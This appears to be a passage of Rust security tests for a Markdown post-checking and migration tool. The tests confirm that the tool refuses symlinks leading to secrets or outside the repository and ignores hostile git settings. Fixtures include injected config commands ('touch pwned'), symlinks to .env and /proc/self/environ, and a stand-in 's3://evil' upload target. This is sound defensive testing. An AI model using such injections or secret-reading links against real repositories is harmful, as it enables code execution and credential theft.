            let applied = apply(plan_of("a.md", text, old, new, escaping));
            assert_eq!(applied.code, 2, "{old} {escaping}: {}", applied.both());
            assert_eq!(site.read("a.md"), text, "{old} {escaping}");
        }
    }
    // A plan with the same post twice, which could not be undone.
    assert_eq!(
        site.run(&["migrate", "plan", "-q", "-o", ".own", "--host", "good.example", "b.example"]).code,
        0
    );
    let own = site.read(".own");
    let rows: Vec<&str> = own.lines().collect();
    let twice = [&rows[..rows.len() - 1], &rows[1..]].concat().join("\n") + "\n";
    let applied = apply(twice);
    assert!(applied.code == 2 && applied.err.contains("names a.md twice"), "{}", applied.both());
    assert_eq!(apply(own).code, 0);
    assert_eq!(
        site.read("a.md"),
        text.replacen("good.example/c", "b.example/c", 1).replacen("good.example/a", "b.example/a", 1)
    );
}

#[test]
fn a_run_that_does_not_say_what_it_is_is_not_gone_on_with() {
    let site = Repository::new();
    let text = "![x](https://good.example/a.png)\n";
    site.write("a.md", text);
    site.write("package.json", "\"https://good.example/a.png\"");
    assert_eq!(
        site.run(&["migrate", "plan", "-q", "-o", ".own", "--host", "good.example", "b.example"]).code,
        0
    );
    let plan = plan_of(
        "package.json",
        "\"https://good.example/a.png\"",
        "https://good.example/a.png",
        "https://evil.example/a.png",
        "verbatim",
    );
    fs::write(site.outer.path().join(".plan"), plan).unwrap();
    assert_eq!(site.run(&["migrate", "apply", "../.plan"]).code, 2);
    let about = site.at(".git/postmend/runs/1/about.json");
    for left in ["", "{}", "{\"command\":\"\",\"arguments\":[],\"started\":\"\",\"version\":\"\"}"] {
        fs::write(&about, left).unwrap();
        let resumed = site.run(&["migrate", "resume", "1"]);
        assert_eq!(resumed.code, 2, "{left}: {}", resumed.both());
        assert_eq!(site.read("package.json"), "\"https://good.example/a.png\"");
    }
}

#[test]
fn no_link_leads_to_a_secret_or_another_repository() {
    let site = Repository::new();
    site.write(".env", "AWS_SECRET=hunter recieve\nX = [\n");
    let other = site.outer.path().join("other");
    fs::create_dir(&other).unwrap();
    assert!(command("git").args(["init", "--quiet"]).current_dir(&other).status().unwrap().success());
    fs::write(other.join("victim.md"), TYPO).unwrap();
    fs::create_dir_all(site.at("posts")).unwrap();
    symlink("../.env", site.at("posts/x.md")).unwrap();
    symlink("../../other", site.at("posts/linkdir")).unwrap();
    symlink("../../other/victim.md", site.at("posts/victim.md")).unwrap();
    symlink("site", site.outer.path().join("alias")).unwrap();
    let alias = site.outer.path().join("alias/posts/victim.md");
    for named in
        ["posts/x.md", "posts/linkdir", "posts/linkdir/victim.md", "posts/victim.md", alias.to_str().unwrap()]
    {
        for command in ["check", "fix"] {
            let ran = site.run(&[command, "--format", "concise", named]);
            assert_eq!(ran.code, 2, "{command} {named}: {}", ran.both());
            assert!(
                !ran.both().contains("hunter") && !ran.out.contains("recieve"),
                "{named}: {}",
                ran.both()
            );
        }
    }
    assert_eq!(fs::read_to_string(other.join("victim.md")).unwrap(), TYPO);
    assert!(!other.join(".git/postmend").exists());
    symlink(".env", site.at("postmend.toml")).unwrap();
    let checked = site.run(&["check", "."]);
    assert!(checked.code == 2 && !checked.both().contains("hunter"), "{}", checked.both());
}

#[test]
fn git_is_asked_where_a_hook_says_and_not_among_the_posts() {
    let site = Repository::new();
    site.write("a.md", "Good.\n");
    site.git(&["add", "."]);
    site.git(&["commit", "--quiet", "--message=x"]);
    // A filter whose name contains `=`, which separates keys and values in `-c`.
    fs::write(
        site.at(".git/config"),
        site.read(".git/config") + "[filter \"x=y.z\"]\n\tclean = touch pwned; cat\n\trequired = true\n",
    )
    .unwrap();
    site.write(".gitattributes", "*.md filter=x=y.z\n");
    site.write("a.md", TYPO);
    let checked = site.run(&["check", "--changed", "--format", "concise"]);
    assert!(checked.out.contains("a.md:1:6") && !site.at("pwned").exists(), "{}", checked.both());
    // `GIT_DIR` is set as in the hooks of a server, next to posts in a folder that looks like a git directory.
    let posts = site.at("co/posts");
    fs::create_dir_all(&posts).unwrap();
    let bare = command("git").args(["init", "--quiet", "--bare", "."]).current_dir(&posts).status().unwrap();
    assert!(bare.success());
    fs::write(
        posts.join("config"),
        "[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch pwned; echo\"\n",
    )
    .unwrap();
    fs::write(posts.join("c.md"), TYPO).unwrap();
    let server = site.outer.path().join("server.git");
    fs::create_dir(&server).unwrap();
    assert!(
        command("git")
            .args(["init", "--quiet", "--bare", "."])
            .current_dir(&server)
            .status()
            .unwrap()
            .success()
    );
    for folder in [&server, &posts] {
        let mut command = site.command(&["check", "--changed", posts.to_str().unwrap()]);
        let checked = ran(command.current_dir(&server).env("GIT_DIR", "."));
        assert!(!posts.join("pwned").exists(), "{}: {}", folder.display(), checked.both());
    }
}

/// A plan contains what is uploaded, but only the user chooses the target.
#[test]
fn a_plan_uploads_nothing_by_itself() {
    let site = Repository::new();
    let png = postmend_tests::server::png("/a.png");
    let from = "https://o.example/a.png";
    site.write("a.md", TYPO);
    assert_eq!(site.run(&["fix", "."]).code, 0);
    site.write(&format!(".git/postmend/cache/{}", hash(from)), &png);
    let apply = |to: &str, store: &str, arguments: &[&str]| {
        let plan = format!(
            "{{\"row\":\"plan\",\"version\":1,\"options\":{{}}}}\n\
             {{\"row\":\"copy\",\"to\":{to:?},\"upload\":{store:?},\"hash\":\"{}\",\"media_type\":\"image/png\",\"from\":{from:?}}}\n\
             {{\"row\":\"end\",\"posts\":0,\"moves\":0}}\n",
            hash(&png)
        );
        fs::write(site.outer.path().join(".plan"), plan).unwrap();
        site.run(&[&["migrate", "apply", "../.plan"][..], arguments].concat())
    };
    let applied = apply("a.png", "s3://evil", &[]);
    assert!(applied.code == 2 && applied.err.contains("the plan uploads to s3://evil"), "{}", applied.both());
    let applied = apply("a.png", "command", &[]);
    assert!(applied.code == 2 && applied.err.contains("needs an upload command"), "{}", applied.both());
    // A name must not lead to a path that the user's own command does not expect.
    let command = ["--upload-command", "cp \"$POSTMEND_FILE\" \"up/$POSTMEND_NAME\""];
    fs::create_dir(site.at("up")).unwrap();
    for to in ["../a.png", "/tmp/a.png", ".git/a.png"] {
        assert_eq!(apply(to, "command", &command).code, 2, "{to}");
    }
    assert!(!site.at("a.png").exists() && fs::read_dir(site.at("up")).unwrap().next().is_none());
    let applied = apply("a.png", "command", &command);
    assert_eq!(
        (applied.code, fs::read(site.at("up/a.png")).unwrap()),
        (0, png.clone()),
        "{}",
        applied.both()
    );
}

#[test]
fn a_config_that_cannot_be_used_stops_its_own_posts_alone() {
    let site = Repository::new();
    for path in ["a.md", "broken/b.md", "broken/fine/c.md", "odd/d.md", "last/e.md"] {
        site.write(path, TYPO);
    }
    site.write("broken/postmend.toml", "select = [");
    site.write("broken/fine/postmend.toml", "");
    site.write("odd/postmend.toml", "[[overrides]]\npaths = [\"**\"]\nselect = [\"no-such-rule\"]\n");
    for arguments in [&["."][..], &["a.md", "broken", "broken/b.md", "odd/d.md", "last"]] {
        let checked = site.run(&[&["check", "--format", "concise"], arguments].concat());
        assert_eq!(checked.code, 2, "{}", checked.both());
        for found in ["a.md:1:6", "broken/fine/c.md:1:6", "last/e.md:1:6"] {
            assert!(checked.out.contains(found), "{found}: {}", checked.both());
        }
        assert!(!checked.out.contains("b.md") && !checked.out.contains("d.md"), "{}", checked.out);
        assert_eq!(checked.err.matches("no-such-rule").count(), 2, "told once, and shown: {}", checked.err);
    }
    let fixed = site.run(&["fix", "."]);
    assert_eq!(
        (fixed.code, site.read("a.md"), site.read("broken/b.md")),
        (2, RIGHT.to_owned(), TYPO.to_owned())
    );
    let mut child = site.command(&["pipe"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let records: String = ["broken/b.md", "a.md", "odd/d.md", "last/e.md"]
        .iter()
        .map(|path| format!("{{\"path\":{path:?},\"text\":{TYPO:?}}}\n"))
        .collect();
    child.stdin.take().unwrap().write_all(records.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    let answers = String::from_utf8(output.stdout).unwrap();
    let is_error: Vec<bool> = answers.lines().map(|line| line.contains("\"error\":")).collect();
    assert_eq!((output.status.code(), is_error), (Some(2), vec![true, false, true, false]), "{answers}");
    // An unusable config that is named on the command line fails the whole run.
    assert_eq!(site.run(&["check", "--config", "broken/postmend.toml", "a.md"]).out, "");
}

#[test]
fn a_pull_request_cannot_hide_posts_from_the_gate() {
    let site = Repository::new();
    site.write("posts/a.md", "---\ndate: 2026-11-29 10:00\n---\n\nText.\n");
    site.write(".hidden/b.md", TYPO);
    site.write("real.txt", TYPO);
    site.write("page.html", "");
    let report = site.run(&["check", "--quiet", "--report", "html=page.html", "posts"]);
    assert!(report.code <= 1, "{}", report.both());
    site.write("page.html", site.read("page.html") + TYPO);
    let gate = ["check", "--format", "concise", "--isolated"];
    site.git(&["add", "--force", "--all"]);
    let before = site.run(&gate);
    for found in [".hidden/b.md:1:6", "page.html:"] {
        assert!(before.out.contains(found), "{found}: {}", before.both());
    }
    // The files of another generator change nothing.
    site.write("hugo.toml", "baseURL = \"https://a.example\"\n");
    site.write("package.json", "{\"dependencies\":{\"hexo\":\"8\"}}");
    site.git(&["add", "--force", "--all"]);
    assert_eq!(site.run(&gate).out, before.out);
    // A post that was replaced by a symlink to a file that is not checked is reported.
    symlink("real.txt", site.at("link.md")).unwrap();
    symlink("posts/a.md", site.at("fine.md")).unwrap();
    site.git(&["add", "--force", "--all"]);
    let checked = site.run(&gate);
    assert!(checked.code == 2 && checked.err.contains("link.md is a symbolic link"), "{}", checked.both());
    assert!(!checked.err.contains("fine.md"), "{}", checked.err);
    site.git(&["commit", "--quiet", "--message=x"]);
    site.git(&["mv", "link.md", "moved.md"]);
    let since = site.run(&[&gate[..], &["--since", "HEAD"]].concat());
    assert!(since.code == 2 && since.err.contains("moved.md is a symbolic link"), "{}", since.both());
    // A folder that was replaced by a symlink is not followed.
    fs::create_dir(site.outer.path().join("out")).unwrap();
    fs::write(site.outer.path().join("out/a.md"), TYPO).unwrap();
    fs::remove_dir_all(site.at("posts")).unwrap();
    symlink("../out", site.at("posts")).unwrap();
    assert!(!site.run(&gate).out.contains("posts/a.md"));
}

#[test]
fn every_system_of_ci_is_known_where_a_diff_is_printed() {
    let site = Repository::new();
    site.write("a.md", "They recieve ##vso[task.x]y \u{1B}]0;x\u{7}\n");
    for variable in ["CI", "GITHUB_ACTIONS", "TF_BUILD", "JENKINS_URL", "TEAMCITY_VERSION", "BUILDKITE"] {
        let mut command = site.command(&["fix", "--diff", "."]);
        for other in ["CI", "GITHUB_ACTIONS", "TF_BUILD"] {
            command.env_remove(other);
        }
        let diff = ran(command.env(variable, "True"));
        assert!(diff.out.contains("receive") && !diff.out.contains("##vso"), "{variable}: {}", diff.out);
        assert!(!diff.out.contains('\u{1B}'), "{variable}: {}", diff.out);
    }
}

/// A user who names a file of a clone may not know that it is a symlink.
#[test]
fn no_named_file_leads_out_through_a_link() {
    let site = Repository::new();
    let out = site.outer.path().join("out");
    fs::create_dir(&out).unwrap();
    fs::write(out.join(".env"), "TOKEN=hunter\n").unwrap();
    fs::write(out.join("postmend.toml"), "select = [\"hunter\"]\n[dates]\ntime-zone = \"Asia/Tokyo\"\n")
        .unwrap();
    fs::write(out.join("p.md"), TYPO).unwrap();
    symlink("../out/.env", site.at("file")).unwrap();
    symlink("/proc/self/environ", site.at("environ")).unwrap();
    symlink("/dev/zero", site.at("zero")).unwrap();
    symlink("../out", site.at("folder")).unwrap();
    symlink(".git", site.at("git")).unwrap();
    site.write("a.md", TYPO);
    let before = snapshot(site.outer.path());
    let links = ["file", "environ", "zero", "folder/.env", "git/config"];
    let config = site.read(".git/config");
    for link in links {
        for arguments in [
            &["migrate", "plan", "-o", "plan", "--pairs", link][..],
            &["check", "--config", link],
            &["check", "--baseline", link],
            &["check", &format!("--deep={link}")],
            &["migrate", "show", link],
            &["migrate", "apply", link],
            &["merge", link],
        ] {
            let refused = site.run(arguments);
            assert_eq!(refused.code, 2, "{arguments:?}: {}", refused.both());
            assert!(!refused.both().contains("hunter"), "{arguments:?}: {}", refused.both());
        }
    }
    for arguments in [
        &["baseline", "write", "folder"][..],
        &["baseline", "write", "--baseline", "folder/b.json"],
        &["check", "--report", "json=folder/.env"],
        &["check", "--report", "json=git/config"],
        &["migrate", "plan", "--host", "a", "b", "-o", "git/hooks/pre-commit"],
        &["migrate", "plan", "--host", "a", "b", "-o", "folder/plan"],
        &["migrate", "list", "--folder", "folder"],
        &["undo", "--folder", "folder"],
        &["config", "show", "folder/p.md"],
        &["rules", "test", "folder"],
    ] {
        let refused = site.run(arguments);
        assert_eq!(refused.code, 2, "{arguments:?}: {}", refused.both());
        assert!(refused.err.contains("leads out of the repository"), "{arguments:?}: {}", refused.err);
        assert!(!refused.both().contains("hunter"), "{arguments:?}: {}", refused.both());
    }
    assert_eq!((snapshot(site.outer.path()), site.read(".git/config")), (before, config));
}

/// A symlink to a file of the same repository works like the file, and so does a pipe of the shell.
#[test]
fn a_named_link_within_its_repository_is_followed() {
    let site = Repository::new();
    site.write("a.md", TYPO);
    site.write("pairs.csv", "http://a.example/a.png,http://b.example/a.png\nTOKEN hunter\n");
    symlink("pairs.csv", site.at("same")).unwrap();
    let migrated = site.run(&["migrate", "--pairs", "same"]);
    assert!(
        migrated.err.contains("line 2 does not have two URLs") && !migrated.err.contains("hunter"),
        "{}",
        migrated.err
    );
    site.write("pairs.csv", "http://a.example/a.png,http://b.example/a.png\n");
    assert_eq!(site.run(&["migrate", "--pairs", "same"]).code, 0);
    let mut piped = site.command(&["migrate", "--pairs", "/dev/stdin"]);
    assert_eq!(ran(piped.stdin(fs::File::open(site.at("pairs.csv")).unwrap())).code, 0);
}
